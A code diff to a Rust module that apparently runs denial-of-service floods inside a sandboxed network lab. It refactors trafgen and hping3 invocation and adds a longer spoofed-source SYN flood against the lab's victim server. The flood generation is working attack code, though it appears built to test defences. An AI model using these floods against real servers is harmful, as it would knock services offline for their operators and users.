@@ -107,22 +107,29 @@ impl<'lab> Flood<'lab> {
             Family::V4 => &[(24, "csumip(14, 33)"), (28, "drnd(2)"), (40, "csumudp(14, 34)")][..],
             Family::V6 => &[(28, "drnd(2)"), (60, "csumudp6(14, 54)")],
         };
-        let mut config = String::from("{");
-        let mut at = 0;
-        while let Some(byte) = bytes.get(at) {
-            match filled.iter().find(|(place, _)| *place == at) {
-                Some((_, function)) => {
-                    let _ = write!(config, " {function},");
-                    at += 2;
-                }
-                None => {
-                    let _ = write!(config, " 0x{byte:02x},");
-                    at += 1;
-                }
-            }
-        }
-        config.push_str(" }\n");
-        Self::by_trafgen_config(lab, &config)
+        Self::by_trafgen_config(lab, &filled_config(&bytes, filled))
+    }
+
+    /// Asks the web server for connections, for a minute and longer, each time in the name of one of 65,536 sources that
+    /// nobody owns, from a port chosen at random, too.
+    pub fn lasting(lab: &'lab Lab, family: Family) -> Result<Self> {
+        let start = frame().macs(lab.attacker.mac, ROUTER_MAC);
+        let start = match family {
+            Family::V4 => start.ipv4("198.18.0.0", lab.victim.ip4),
+            Family::V6 => start.ipv6("2001:db8:66::1", lab.victim.ip6),
+        };
+        let bytes = content(start, Attack::Syn, family == Family::V6, 0).build();
+        let filled = match family {
+            Family::V4 => &[
+                (24, "csumip(14, 33)"),
+                (28, "drnd(2)"),
+                (34, "drnd(2)"),
+                (50, "csumtcp(14, 34)"),
+            ][..],
+            Family::V6 => &[(28, "drnd(2)"), (54, "drnd(2)"), (70, "csumtcp6(14, 54)")],
+        };
+        let command = trafgen(lab, &filled_config(&bytes, filled), 4 * MAX_PACKETS)?;
+        Self::run(lab, command, 5 * MAX_CPU_S)
     }
 
     fn by_hping3(lab: &'lab Lab, attack: Attack) -> Result<Self> {
@@ -139,7 +146,7 @@ impl<'lab> Flood<'lab> {
             command.args(flags.chars().map(|flag| format!("-{flag}")));
         }
         command.arg(lab.victim.ip4);
-        Self::run(lab, command)
+        Self::run(lab, command, MAX_CPU_S)
     }
 
     /// Sends these frames from the attacker over and over, in turn.
@@ -148,29 +155,14 @@ impl<'lab> Flood<'lab> {
     }
 
     fn by_trafgen_config(lab: &'lab Lab, text: &str) -> Result<Self> {
-        let config = lab.dir.path().join("trafgen.cfg");
-        fs::write(&config, text)?;
-        let mut command = lab.attacker.ns.command("trafgen")?;
-        command.args([
-            "--dev",
-            IFACE,
-            "--cpus",
-            "1",
-            "--no-sock-mem",
-            "--no-cpu-stats",
-            "--notouch-irq",
-        ]);
-        command
-            .args(["--num", &MAX_PACKETS.to_string(), "--conf"])
-            .arg(&config);
-        Self::run(lab, command)
+        Self::run(lab, trafgen(lab, text, MAX_PACKETS)?, MAX_CPU_S)
     }
 
-    fn run(lab: &'lab Lab, mut command: Command) -> Result<Self> {
+    fn run(lab: &'lab Lab, mut command: Command, max_cpu_s: u64) -> Result<Self> {
         // SAFETY: the closure makes system calls only; it neither allocates nor takes locks.
         unsafe {
-            command.pre_exec(|| {
-                setrlimit(Resource::RLIMIT_CPU, MAX_CPU_S, MAX_CPU_S)?;
+            command.pre_exec(move || {
+                setrlimit(Resource::RLIMIT_CPU, max_cpu_s, max_cpu_s)?;
                 // The honest client and the server come first, or a full CPU would look like a successful
                 // attack.
                 nix::errno::Errno::result(libc::setpriority(libc::PRIO_PROCESS, 0, 15))?;
@@ -269,6 +261,37 @@ fn content(start: Frame, attack: Attack, v6: bool, number: u16) -> Frame {
         Attack::Icmp if v6 => start.icmp6(128, 0).rest(number.into()).payload(56),
         Attack::Icmp => start.icmp(8, 0).rest(number.into()).payload(56),
     }
+}
+
+/// A trafgen that sends at most so many packets.
+fn trafgen(lab: &Lab, config: &str, packets: u32) -> Result<Command> {
+    let path = lab.dir.path().join("trafgen.cfg");
+    fs::write(&path, config)?;
+    let mut command = lab.attacker.ns.command("trafgen")?;
+    command.args(["--dev", IFACE, "--cpus", "1"]);
+    command.args(["--no-sock-mem", "--no-cpu-stats", "--notouch-irq"]);
+    command.args(["--num", &packets.to_string(), "--conf"]).arg(&path);
+    Ok(command)
+}
+
+/// One frame, in which the tool fills in two bytes each at these places.
+fn filled_config(bytes: &[u8], filled: &[(usize, &str)]) -> String {
+    let mut config = String::from("{");
+    let mut at = 0;
+    while let Some(byte) = bytes.get(at) {
+        match filled.iter().find(|(place, _)| *place == at) {
+            Some((_, function)) => {
+                let _ = write!(config, " {function},");
+                at += 2;
+            }
+            None => {
+                let _ = write!(config, " 0x{byte:02x},");
+                at += 1;
+            }
+        }
+    }
+    config.push_str(" }\n");
+    config
 }
 
 fn trafgen_config(frames: &[Vec<u8>]) -> String {
